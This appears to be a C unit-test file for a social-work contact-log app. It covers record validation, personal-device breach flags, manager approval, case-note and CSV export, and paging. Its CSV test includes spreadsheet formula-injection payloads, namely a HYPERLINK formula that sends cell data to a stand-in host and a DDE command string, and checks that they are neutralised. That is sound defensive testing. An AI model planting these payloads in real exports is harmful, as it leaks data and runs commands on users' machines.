/* test-contacts.c: the electronic contact log in a real vault
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include <string.h>

#include "sc-dates.h"
#include "sc-paged-model.h"
#include "sc-records.h"
#include "sc-review.h"
#include "sc-secure.h"
#include "sc-test-core.h"
#include "sc-vault-private.h"

typedef struct
{
  ScVault *vault;
  ScChild *child;
} Fixture;

static void
fixture_set_up (Fixture       *fixture,
                gconstpointer  data)
{
  g_autofree char *directory = sc_vault_get_default_directory (FALSE);
  g_autoptr(GError) error = NULL;

  fixture->vault = sc_vault_create (directory, "Sam Taylor", "Blue-Kettle-42", NULL, &error);
  g_assert_no_error (error);
  fixture->child = sc_child_new ();
  sc_record_set_text (SC_RECORD (fixture->child), "name", "Zoë Ängström, \"Zo\"");
  g_assert_true (sc_records_save (fixture->vault, SC_RECORD (fixture->child), &error));
}

static void
fixture_tear_down (Fixture       *fixture,
                   gconstpointer  data)
{
  g_clear_object (&fixture->child);
  g_clear_object (&fixture->vault);
}

static gint64
child_id (Fixture *fixture)
{
  return sc_record_get_id (SC_RECORD (fixture->child));
}

static ScContact *
new_contact (Fixture    *fixture,
             const char *when,
             const char *channel,
             const char *device)
{
  ScContact *contact = sc_contact_new (child_id (fixture));

  sc_record_set_text (SC_RECORD (contact), "happened-at", when);
  sc_record_set_text (SC_RECORD (contact), "channel", channel);
  sc_record_set_text (SC_RECORD (contact), "direction", "to");
  sc_record_set_text (SC_RECORD (contact), "device", device);
  return contact;
}

static void
save (Fixture   *fixture,
      ScContact *contact)
{
  g_autoptr(GError) error = NULL;

  g_assert_true (sc_records_save (fixture->vault, SC_RECORD (contact), &error));
  g_assert_no_error (error);
}

static guint
count (Fixture       *fixture,
       const ScQuery *query)
{
  g_autoptr(GError) error = NULL;
  guint n = 0;

  g_assert_true (sc_records_count_contacts (fixture->vault, query, &n, &error));
  g_assert_no_error (error);
  return n;
}

static void
test_round_trip (Fixture       *fixture,
                 gconstpointer  data)
{
  static const char *const texts[][2] = {
    { "happened-at", "2026-11-20T15:30:00Z" },
    { "channel", "messaging" },
    { "direction", "from" },
    { "with-whom", "other" },
    { "with-whom-other", "Her social worker’s duty colleague" },
    { "device", "personal" },
    { "device-detail", "Own phone, 07700 900123" },
    { "summary", "She asked to move the visit to Friday." },
    { "follow-up", "Confirm with the carer" },
    { "copied-at", "" },
  };
  g_autoptr(ScContact) contact = sc_contact_new (child_id (fixture));
  g_autoptr(ScContact) loaded = NULL;
  g_autoptr(GError) error = NULL;

  for (guint i = 0; i < G_N_ELEMENTS (texts); i++)
    sc_record_set_text (SC_RECORD (contact), texts[i][0], texts[i][1]);
  save (fixture, contact);

  loaded = sc_records_load (fixture->vault, SC_TYPE_CONTACT, sc_record_get_id (SC_RECORD (contact)),
                            &error);
  g_assert_no_error (error);
  for (guint i = 0; i < G_N_ELEMENTS (texts); i++)
    g_assert_cmpstr (sc_record_get_text (SC_RECORD (loaded), texts[i][0]), ==, texts[i][1]);
  g_assert_cmpint (sc_record_get_int64 (SC_RECORD (loaded), "child-id"), ==, child_id (fixture));
  g_assert_cmpstr (sc_record_get_text (SC_RECORD (loaded), "recorded-at"), !=, "");
  /* A personal device with no manager's approval: kept, and flagged. */
  g_assert_true (sc_contact_is_breach (loaded));
}

static void
test_required_and_bad (Fixture       *fixture,
                       gconstpointer  data)
{
  g_autoptr(ScContact) contact = sc_contact_new (child_id (fixture));
  g_autoptr(GError) error = NULL;

  g_assert_false (sc_records_save (fixture->vault, SC_RECORD (contact), &error));
  g_assert_error (error, SC_RECORD_ERROR, SC_RECORD_ERROR_REQUIRED);
  g_clear_error (&error);

  sc_record_set_text (SC_RECORD (contact), "happened-at", "2999-01-01T10:00:00Z");
  sc_record_set_text (SC_RECORD (contact), "channel", "text");
  sc_record_set_text (SC_RECORD (contact), "direction", "to");
  sc_record_set_text (SC_RECORD (contact), "device", "work");
  g_assert_false (sc_records_save (fixture->vault, SC_RECORD (contact), &error));
  g_assert_error (error, SC_RECORD_ERROR, SC_RECORD_ERROR_INVALID);
  g_clear_error (&error);

  sc_record_set_text (SC_RECORD (contact), "happened-at", "2026-11-20T10:00:00Z");
  sc_record_set_text (SC_RECORD (contact), "channel", "carrier pigeon");
  g_assert_false (sc_records_save (fixture->vault, SC_RECORD (contact), &error));
  g_assert_error (error, SC_RECORD_ERROR, SC_RECORD_ERROR_INVALID);
  g_clear_error (&error);

  g_assert_cmpuint (count (fixture, &(ScQuery) { .child_id = child_id (fixture) }), ==, 0);
}

static void
test_filters (Fixture       *fixture,
              gconstpointer  data)
{
  static const char *const rows[][2] = {
    { "2026-10-01T09:00:00Z", "text" },
    { "2026-10-15T09:00:00Z", "phone-call" },
    { "2026-11-02T09:00:00Z", "text" },
    { "2026-11-20T09:00:00Z", "email" },
  };
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) listed = NULL;

  for (guint i = 0; i < G_N_ELEMENTS (rows); i++)
    {
      g_autoptr(ScContact) contact = new_contact (fixture, rows[i][0], rows[i][1], "work");

      save (fixture, contact);
    }

  g_assert_cmpuint (count (fixture, &(ScQuery) { .child_id = child_id (fixture) }), ==, 4);
  g_assert_cmpuint (count (fixture, &(ScQuery) { .child_id = child_id (fixture),
                                                  .channel = (char *) "text" }), ==, 2);
  g_assert_cmpuint (count (fixture, &(ScQuery) { .child_id = child_id (fixture),
                                                  .from = (char *) "2026-11-01T00:00:00Z",
                                                  .to = (char *) "2026-12-01T00:00:00Z" }), ==, 2);
  g_assert_cmpuint (count (fixture, &(ScQuery) { .child_id = child_id (fixture),
                                                  .channel = (char *) "text",
                                                  .from = (char *) "2026-11-01T00:00:00Z" }), ==, 1);
  g_assert_cmpuint (count (fixture, &(ScQuery) { .child_id = child_id (fixture) + 1 }), ==, 0);

  /* Newest first. */
  listed = sc_records_list_contacts (fixture->vault, &(ScQuery) { .child_id = child_id (fixture) },
                                     0, 10, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (listed->len, ==, 4);
  g_assert_cmpstr (sc_record_get_text (listed->pdata[0], "happened-at"), ==, "2026-11-20T09:00:00Z");
  g_assert_cmpstr (sc_record_get_text (listed->pdata[3], "happened-at"), ==, "2026-10-01T09:00:00Z");
}

static void
test_personal_device_breach_and_approval (Fixture       *fixture,
                                          gconstpointer  data)
{
  g_autoptr(ScContact) work = new_contact (fixture, "2026-11-01T09:00:00Z", "text", "work");
  g_autoptr(ScContact) unapproved = new_contact (fixture, "2026-11-02T09:00:00Z", "text", "personal");
  g_autoptr(ScContact) approved = new_contact (fixture, "2026-11-03T09:00:00Z", "text", "personal");
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) personal = NULL;
  g_autoptr(GPtrArray) managers = NULL;
  const char *manager_id;

  save (fixture, work);
  /* Saved even so: nothing typed is lost; it is flagged instead. */
  save (fixture, unapproved);
  save (fixture, approved);
  g_assert_true (sc_contact_is_breach (approved));

  /* A name typed as "approved by" is not an approval: refused. */
  sc_record_set_text (SC_RECORD (unapproved), "approved-by", "Pat Manager");
  sc_record_set_text (SC_RECORD (unapproved), "approved-on", "2026-10-30");
  g_assert_false (sc_records_save (fixture->vault, SC_RECORD (unapproved), &error));
  g_assert_error (error, SC_RECORD_ERROR, SC_RECORD_ERROR_INVALID);
  g_clear_error (&error);
  sc_record_set_text (SC_RECORD (unapproved), "approved-by", "");
  sc_record_set_text (SC_RECORD (unapproved), "approved-on", "");

  /* A manager's approval, with their own passphrase: the worker's is not. */
  g_assert_true (sc_vault_add_manager (fixture->vault, "Blue-Kettle-42", "Pat Manager", "Team manager",
                                       "Green-Teapot-77", &error));
  managers = sc_vault_list_managers (fixture->vault, &error);
  g_assert_no_error (error);
  manager_id = ((ScManager *) managers->pdata[0])->id;
  g_assert_false (sc_contact_approve (fixture->vault, approved, manager_id, "Blue-Kettle-42", &error));
  g_assert_error (error, SC_RECORD_ERROR, SC_RECORD_ERROR_INVALID);
  g_clear_error (&error);
  g_assert_true (sc_contact_is_breach (approved));
  g_assert_true (sc_contact_approve (fixture->vault, approved, manager_id, "Green-Teapot-77", &error));
  g_assert_no_error (error);
  g_assert_cmpstr (sc_record_get_text (SC_RECORD (approved), "approved-by"), ==, "Pat Manager");
  /* Approved as it was: not changed afterwards, but still copied. */
  sc_record_set_text (SC_RECORD (approved), "summary", "Rewritten after the approval");
  g_assert_false (sc_records_save (fixture->vault, SC_RECORD (approved), &error));
  g_assert_error (error, SC_RECORD_ERROR, SC_RECORD_ERROR_FINAL);
  g_clear_error (&error);
  sc_record_set_text (SC_RECORD (approved), "summary", "");
  {
    g_autoptr(GPtrArray) to_copy = g_ptr_array_new ();

    g_ptr_array_add (to_copy, approved);
    g_assert_true (sc_records_mark_copied (fixture->vault, to_copy, &error));
    g_assert_no_error (error);
  }

  g_assert_false (sc_contact_is_breach (work));
  g_assert_true (sc_contact_is_breach (unapproved));
  g_assert_false (sc_contact_is_breach (approved));

  /* The manager's list: every personal-device contact, any child. */
  personal = sc_records_list_contacts (fixture->vault, &(ScQuery) { .personal_only = TRUE },
                                       0, 100, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (personal->len, ==, 2);
  g_assert_true (sc_contact_is_breach (personal->pdata[1]));
}

static void
test_linked_to_concern (Fixture       *fixture,
                        gconstpointer  data)
{
  g_autoptr(ScConcern) concern = sc_concern_new (child_id (fixture));
  g_autoptr(ScChild) other_child = sc_child_new ();
  g_autoptr(ScConcern) other_concern = NULL;
  g_autoptr(ScContact) contact = new_contact (fixture, "2026-11-02T09:00:00Z", "text", "work");
  g_autoptr(GPtrArray) linked = NULL;
  g_autoptr(GError) error = NULL;

  sc_record_set_text (SC_RECORD (concern), "own-words", "he texted me again");
  g_assert_true (sc_records_save (fixture->vault, SC_RECORD (concern), &error));
  sc_record_set_text (SC_RECORD (other_child), "name", "Someone Else");
  g_assert_true (sc_records_save (fixture->vault, SC_RECORD (other_child), &error));
  other_concern = sc_concern_new (sc_record_get_id (SC_RECORD (other_child)));
  g_assert_true (sc_records_save (fixture->vault, SC_RECORD (other_concern), &error));

  /* Another child's concern cannot be linked. */
  sc_record_set_int64 (SC_RECORD (contact), "concern-id", sc_record_get_id (SC_RECORD (other_concern)));
  g_assert_false (sc_records_save (fixture->vault, SC_RECORD (contact), &error));
  g_assert_error (error, SC_RECORD_ERROR, SC_RECORD_ERROR_INVALID);
  g_clear_error (&error);

  sc_record_set_int64 (SC_RECORD (contact), "concern-id", sc_record_get_id (SC_RECORD (concern)));
  save (fixture, contact);

  linked = sc_records_list_contacts_for_concern (fixture->vault,
                                                 sc_record_get_id (SC_RECORD (concern)), &error);
  g_assert_no_error (error);
  g_assert_cmpuint (linked->len, ==, 1);
  g_assert_cmpint (sc_record_get_id (linked->pdata[0]), ==, sc_record_get_id (SC_RECORD (contact)));
}

static void
test_case_note_and_csv_text (Fixture       *fixture,
                             gconstpointer  data)
{
  g_autoptr(ScContact) first = new_contact (fixture, "2026-11-20T15:30:00Z", "text", "work");
  g_autoptr(ScContact) second = new_contact (fixture, "2026-11-21T08:05:00Z", "phone-call",
                                             "personal");
  /* Owning its contacts, as every list from the vault does. */
  g_autoptr(GPtrArray) both = g_ptr_array_new_with_free_func (g_object_unref);
  g_autofree char *one = NULL;
  g_autofree char *note = NULL;
  g_autofree char *csv = NULL;
  const char *label = "Zoë Ängström, \"Zo\"";

  sc_record_set_text (SC_RECORD (first), "summary", "Asked about Friday, said \"ok\",\nthen rang off.");
  sc_record_set_text (SC_RECORD (first), "device-detail", "work mobile");
  sc_record_set_text (SC_RECORD (second), "direction", "from");
  sc_record_set_text (SC_RECORD (second), "with-whom", "carer");
  sc_record_set_text (SC_RECORD (second), "summary", "Карер (carer) called back");
  sc_record_set_text (SC_RECORD (second), "follow-up", "Book a visit");
  g_ptr_array_add (both, g_object_ref (second));
  g_ptr_array_add (both, g_object_ref (first));

  one = sc_contact_format_case_note (first, label, "Sam Taylor");
  g_assert_cmpstr (one, ==,
                   "Electronic contact: 20/11/2026 15:30\n"
                   "With: Zoë Ängström, \"Zo\"\n"
                   "Channel: Text message, sent by the worker\n"
                   "Device: Work-issued device or account (work mobile)\n"
                   "Summary: Asked about Friday, said \"ok\",\nthen rang off.\n"
                   "Noted in Safecase by Sam Taylor.\n");

  note = sc_contacts_format_case_note (both, "ZA", "Sam Taylor");
  g_assert_cmpstr (note, ==,
                   "2 electronic contacts with ZA\n"
                   "\n"
                   "Electronic contact: 20/11/2026 15:30\n"
                   "With: ZA\n"
                   "Channel: Text message, sent by the worker\n"
                   "Device: Work-issued device or account (work mobile)\n"
                   "Summary: Asked about Friday, said \"ok\",\nthen rang off.\n"
                   "\n"
                   "Electronic contact: 21/11/2026 08:05\n"
                   "With: Their carer (for ZA)\n"
                   "Channel: Phone call, received by the worker\n"
                   "Device: Personal device or account, with no manager’s approval recorded\n"
                   "Summary: Карер (carer) called back\n"
                   "Follow-up: Book a visit\n"
                   "\n"
                   "Noted in Safecase by Sam Taylor.\n");

  csv = sc_contacts_format_csv (both, label);
  g_assert_cmpstr (csv, ==,
                   "\xEF\xBB\xBF"   /* so Excel reads the names as UTF-8 */
                   "Date,Time,Child,With,Channel,Direction,Device,Device details,Approved by,"
                   "Approved on,Summary,Follow-up\r\n"
                   "20/11/2026,15:30,\"Zoë Ängström, \"\"Zo\"\"\",\"Zoë Ängström, \"\"Zo\"\"\","
                   "Text message,To them,Work-issued device or account,work mobile,,,"
                   "\"Asked about Friday, said \"\"ok\"\",\nthen rang off.\",\r\n"
                   "21/11/2026,08:05,\"Zoë Ängström, \"\"Zo\"\"\","
                   "\"Their carer (for Zoë Ängström, \"\"Zo\"\")\",Phone call,From them,"
                   "Personal device or account,,,,Карер (carer) called back,Book a visit\r\n");

  /* A cell a spreadsheet would run as a formula is made text. */
  {
    static const struct { const char *in, *out; } cells[] = {
      { "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")",
        "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Click\"\")\"" },
      { "+44 7700 900123", "'+44 7700 900123" },
      { "-2+3", "'-2+3" },
      { "@SUM(A1:A9)", "'@SUM(A1:A9)" },
      { "\tcmd", "'\tcmd" },
      { "\rcmd", "\"'\rcmd\"" },
      { "Rang = ok", "Rang = ok" },
      { "", "" },
    };

    for (guint i = 0; i < G_N_ELEMENTS (cells); i++)
      {
        g_autofree char *quoted = sc_csv_quote (cells[i].in);

        g_assert_cmpstr (quoted, ==, cells[i].out);
      }
    sc_record_set_text (SC_RECORD (first), "summary", "=cmd|' /C calc'!A0");
    g_clear_pointer (&csv, g_free);
    csv = sc_contacts_format_csv (both, label);
    g_assert_nonnull (strstr (csv, ",'=cmd|' /C calc'!A0,"));
  }

  /* Formatting leaves the list's contacts alone (it once freed them). */
  g_assert_cmpstr (sc_record_get_text (both->pdata[0], "follow-up"), ==, "Book a visit");
}

/* A hundred thousand contacts; a fifth of that under AddressSanitizer,
 * where each insert (and its search trigger) costs twenty times as much
 * and the paging it proves is the same. */
#if defined(__SANITIZE_ADDRESS__)
#define N_PAGED 20000
#elif defined(__has_feature)
#if __has_feature(address_sanitizer)
#define N_PAGED 20000
#endif
#endif
#ifndef N_PAGED
#define N_PAGED 100000
#endif

static void
test_hundred_thousand_paged (Fixture       *fixture,
                             gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(ScPagedModel) model = NULL;
  g_autoptr(ScContact) newest = NULL, oldest = NULL;
  g_autoptr(ScQuery) query = sc_query_new ();
  sqlite3_stmt *stmt = NULL;

  g_assert_true (sc_vault_begin (fixture->vault, &error));
  g_assert_cmpint (sqlite3_prepare_v2 (sc_vault_get_db (fixture->vault),
                                       "INSERT INTO contact (child_id, happened_at, channel, direction,"
                                       " device, summary, recorded_at, updated_at) VALUES (?1, ?2,"
                                       " 'text', 'to', 'work', ?3, ?2, ?2)", -1, &stmt, NULL),
                   ==, SQLITE_OK);
  for (int i = 0; i < N_PAGED; i++)
    {
      g_autofree char *at = NULL;
      g_autoptr(GDateTime) base = g_date_time_new_utc (2020, 1, 1, 0, 0, 0);
      g_autoptr(GDateTime) then = g_date_time_add_minutes (base, i);
      g_autofree char *summary = g_strdup_printf ("contact %d", i);

      at = sc_datetime_to_storage (then);
      sqlite3_bind_int64 (stmt, 1, child_id (fixture));
      sqlite3_bind_text (stmt, 2, at, -1, SQLITE_TRANSIENT);
      sqlite3_bind_text (stmt, 3, summary, -1, SQLITE_TRANSIENT);
      g_assert_cmpint (sqlite3_step (stmt), ==, SQLITE_DONE);
      sqlite3_reset (stmt);
    }
  sqlite3_finalize (stmt);
  g_assert_true (sc_vault_commit (fixture->vault, &error));

  query->child_id = child_id (fixture);
  model = sc_paged_model_new (fixture->vault, SC_TYPE_CONTACT, query);
  g_assert_cmpuint (g_list_model_get_n_items (G_LIST_MODEL (model)), ==, N_PAGED);
  g_assert_cmpuint (sc_paged_model_get_pages_loaded (model), ==, 0);

  newest = g_list_model_get_item (G_LIST_MODEL (model), 0);
  oldest = g_list_model_get_item (G_LIST_MODEL (model), N_PAGED - 1);
  {
    g_autofree char *last = g_strdup_printf ("contact %d", N_PAGED - 1);

    g_assert_cmpstr (sc_record_get_text (SC_RECORD (newest), "summary"), ==, last);
  }
  g_assert_cmpstr (sc_record_get_text (SC_RECORD (oldest), "summary"), ==, "contact 0");
  g_assert_cmpuint (sc_paged_model_get_pages_loaded (model), ==, 2);
}

static void
test_copied_and_reminders (Fixture       *fixture,
                           gconstpointer  data)
{
  g_autoptr(ScContact) a = new_contact (fixture, "2026-11-01T09:00:00Z", "text", "work");
  g_autoptr(ScContact) b = new_contact (fixture, "2026-11-02T09:00:00Z", "email", "work");
  g_autoptr(GPtrArray) both = g_ptr_array_new ();
  g_autoptr(GDateTime) now = g_date_time_new_now_utc ();
  g_autoptr(GDateTime) in_three_days = g_date_time_add_days (now, 3);
  g_autoptr(GDateTime) in_eight_days = g_date_time_add_days (now, 8);
  g_autoptr(GError) error = NULL;
  g_autoptr(GArray) due = NULL;

  save (fixture, a);
  save (fixture, b);

  due = sc_records_children_to_remind (fixture->vault, now, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (due->len, ==, 1);
  g_assert_cmpint (g_array_index (due, gint64, 0), ==, child_id (fixture));

  /* Once a week per child. */
  g_assert_true (sc_records_mark_reminded (fixture->vault, due, now, &error));
  g_array_unref (due);
  due = sc_records_children_to_remind (fixture->vault, in_three_days, &error);
  g_assert_cmpuint (due->len, ==, 0);
  g_array_unref (due);
  due = sc_records_children_to_remind (fixture->vault, in_eight_days, &error);
  g_assert_cmpuint (due->len, ==, 1);
  g_array_unref (due);

  /* Copied to the case system: nothing left to remind about. */
  g_ptr_array_add (both, a);
  g_ptr_array_add (both, b);
  g_assert_true (sc_records_mark_copied (fixture->vault, both, &error));
  g_assert_no_error (error);
  g_assert_cmpstr (sc_record_get_text (SC_RECORD (a), "copied-at"), !=, "");
  due = sc_records_children_to_remind (fixture->vault, in_eight_days, &error);
  g_assert_cmpuint (due->len, ==, 0);
}

int
main (int   argc,
      char *argv[])
{
  /* Case notes show local time: make it the same everywhere. */
  g_setenv ("TZ", "UTC", TRUE);
  sc_test_core_init (&argc, &argv);

#define ADD(path, func) \
  g_test_add (path, Fixture, NULL, fixture_set_up, func, fixture_tear_down)

  ADD ("/contacts/round-trip", test_round_trip);
  ADD ("/contacts/required-and-bad-input", test_required_and_bad);
  ADD ("/contacts/filters-by-channel-and-period", test_filters);
  ADD ("/contacts/personal-device/breach-and-approval", test_personal_device_breach_and_approval);
  ADD ("/contacts/linked-to-concern", test_linked_to_concern);
  ADD ("/contacts/case-note-and-csv", test_case_note_and_csv_text);
  ADD ("/contacts/hundred-thousand-paged", test_hundred_thousand_paged);
  ADD ("/contacts/copied-and-weekly-reminders", test_copied_and_reminders);

  return g_test_run ();
}
